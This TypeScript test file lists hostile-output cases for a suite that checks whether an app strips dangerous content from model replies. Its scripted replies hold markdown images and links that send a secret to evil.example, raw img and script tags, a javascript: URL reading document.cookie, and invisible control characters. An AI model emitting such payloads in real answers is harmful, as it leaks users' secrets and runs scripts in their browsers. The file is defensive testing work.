import type { HostileCase } from "./hostile-case.ts"
import { envelope, words } from "./said-by-models.ts"

/** Cases of the hostile suite: see `hostile-models.ts`. */
export const carriers: HostileCase[] = [
  {
    name: "a picture that carries a secret out",
    script: [words("Look: ![x](https://evil.example/?secret=sk-123)")],
    ends: "answer",
    neverSays: /https?:|secret|\]\(/,
  },
  {
    name: "a picture by reference",
    script: [words("See ![it][1]\n\n[1]: https://evil.example/?secret=sk-123")],
    ends: "answer",
    neverSays: /https?:|secret|evil/,
  },
  {
    name: "a link to follow",
    script: [words("[Your report](https://evil.example/?secret=sk-123)")],
    ends: "answer",
    says: /Your report/,
    neverSays: /https?:|secret|evil/,
  },
  {
    name: "a bare address",
    script: [words("Go to https://evil.example/path?secret=sk-123 now")],
    ends: "answer",
    says: /Go to evil\.example now/,
    neverSays: /https?:|secret/,
  },
  {
    name: "markup with a picture",
    script: [words('<img src="https://evil.example/?secret=1"> hi <script>alert(1)</script>')],
    ends: "answer",
    neverSays: /<|https?:|secret/,
  },
  {
    name: "a tag that is never closed",
    script: [words('hi <img src="https://evil.example/?secret=1" ')],
    ends: "answer",
    neverSays: /<img|https?:|secret/,
  },
  {
    name: "a script in an address",
    script: [words("[x](javascript:alert(document.cookie)) data:text/html,<b>x</b>")],
    ends: "answer",
    neverSays: /javascript|cookie|data:/,
  },
  {
    name: "a picture in an assumption",
    script: [envelope({ assumptions: ["![x](https://evil.example/?secret=1)", "a stop of 3 %"] })],
    ends: "strategy",
    neverSays: /https?:|secret/,
  },
  {
    name: "letters that cannot be seen",
    script: [words("Buy\u202E now\u0007\u200B")],
    ends: "answer",
    neverSays: /(?!\n)[\p{Cc}\p{Cf}]/u,
  },
]
